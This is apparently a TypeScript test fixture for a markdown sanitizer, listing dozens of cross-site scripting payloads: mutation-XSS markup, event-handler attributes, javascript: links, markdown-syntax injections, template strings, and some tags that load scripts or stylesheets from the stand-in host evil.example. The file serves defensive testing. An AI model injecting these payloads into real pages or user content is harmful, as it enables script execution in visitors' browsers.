/** Markup that parsers and browsers read differently, so that it may mean something else when it is read again. */
const mutating = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=attack()&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=attack()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=attack()>',
  '<noscript><p title="</noscript><img src=x onerror=attack()>">',
  '<noembed><img title="</noembed><img src=x onerror=attack()>">',
  '<xmp><p title="</xmp><svg/onload=attack()>">',
  '<select><template><script>attack()</script></template></select>',
  '<svg><![CDATA[<image xlink:href="]]><img src=x onerror=attack()//">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=attack()></style></annotation-xml></math>',
  '<svg><desc><style><!--</desc><img src=x onerror=attack()>--></style>',
  '<table><tr><td><select><option></table><img src=x onerror=attack()>',
  '<plaintext><img src=x onerror=attack()>',
]

/** Elements and attributes that run or load something. */
const elements = [
  ...['<script>attack()</script>', '<ScRiPt\n>attack()</sCrIpT\t>'],
  ...['<script src=//evil.example/a.js></script>', '<script type=module>attack()</script>'],
  ...['<img src=x onerror=attack()>', '<img/src=`x`onerror=attack()>', '<svg/onload=attack()>'],
  '<svg><animate onbegin=attack() attributeName=x dur=1s>',
  ...['<svg><use href="data:image/svg+xml,<svg id=x onload=attack() />#x"/></svg>', '<body onload=attack()>'],
  ...['<details open ontoggle=attack()>a</details>', '<input autofocus onfocus=attack()>'],
  '<video><source onerror=attack()></video>',
  '<iframe srcdoc="<script>parent.attack()</script>"></iframe>',
  ...['<object data="javascript:attack()"></object>', '<embed src="javascript:attack()">'],
  '<link rel=stylesheet href=//evil.example/a.css>',
  ...['<meta http-equiv=refresh content="0;url=javascript:attack()">', '<base href=//evil.example/>'],
  ...['<form action=javascript:attack()><button>a</button></form>', '<a href=javascript:attack()>a</a>'],
  '<p style="background:url(//evil.example/a.png)">a</p>',
  '<style>@import "//evil.example/a.css"</style>',
  '<template shadowrootmode=open><script>attack()</script></template>',
  ...['<x-a is=script onclick=attack()>a</x-a>', '<!--><img src=x onerror=attack()>-->'],
  ...['<!-- --!><img src=x onerror=attack()>', '<?xml-stylesheet href="javascript:attack()"?>'],
  ...['<!DOCTYPE html [<!ENTITY a "b">]>', '<![CDATA[<img src=x onerror=attack()>]]>'],
  ...['</article></main></div><script>attack()</script>', '</template><script>attack()</script>'],
  '<a id=root name=application></a>',
]

/** Markdown whose own syntax is the way in. */
const syntax = [
  ...['[a](javascript:attack())', '[a](JaVaScRiPt:attack())', '[a](java&#10;script:attack())'],
  ...['[a](&#x6A;avascript&colon;attack())', '[a](<\u00a0javascript:attack()>)'],
  ...['[a](data:text/html,<script>attack()</script>)', '[a](vbscript:attack())'],
  ...['[a](//evil.example/%2e%2e)', '[a]: javascript:attack()\n\n[a]', '<javascript:attack()>'],
  ...['<https://a.example/"onmouseover="attack()>', 'https://a.example/"onmouseover="attack()'],
  ...['https://a.example/<img src=x onerror=attack()>', "www.a.example/'onmouseover='attack()"],
  ...['attack()"onmouseover="attack()@a.example', '[a](/b "c\\" onmouseover=\\"attack()")'],
  ...["[a](/b'onmouseover=attack\\(\\))", '![" onerror="attack()](x)', '![a](x "\\" onerror=\\"attack()")'],
  ...['![a](data:image/svg+xml,<svg onload=attack()>)', '[![a](javascript:attack())](javascript:attack())'],
  ...['`<img src=x onerror=attack()>`', '```"><img\u00a0src=x\u00a0onerror=attack()>\na\n```'],
  ...['```html\n</code></pre><script>attack()</script>\n```', '## <img src=x onerror=attack()>'],
  ...['## "onmouseover="attack()', 'a[^"onmouseover="attack()]\n\n[^"onmouseover="attack()]: b'],
  'a[^<script>]\n\n[^<script>]: <script>attack()</script>',
  '| <img src=x onerror=attack()> |\n| :-: |\n| </td></table><script>attack()</script> |',
  ...['- [x] <img src=x onerror=attack()>', '> [!NOTE]\n> <img src=x onerror=attack()>'],
  ...['> [!NOTE"onclick="attack()]\n> a', '~~<svg/onload=attack()>~~'],
  ...['&lt;script&gt;attack()&lt;/script&gt;', '&#60;img src=x onerror=attack()&#62;'],
  ...['<img src=x onerror=attack()\n\n>', '*<img src=x* onerror=attack()>'],
  "$& $` $' $$ {{attack()}} $\u007battack()} <%= attack() %>",
]

/** Texts of posts, by their kinds. Whatever they try: no script, no other host, no id of the page. */
export const hostileTexts: Record<string, readonly string[]> = {
  'elements and attributes': elements,
  'what mutates when it is read again': mutating,
  'the syntax of markdown': syntax,
  'headings with the names of other things': ['## Root', '## body', '## constructor', '## __proto__'],
  'other characters': [
    '\u202e## a',
    '\ufeff\ufffe\uffff',
    'a\u2028b',
    '\ud83d',
    '＜script＞attack()＜/script＞',
    'ﬁ İ ẞ',
  ],
}
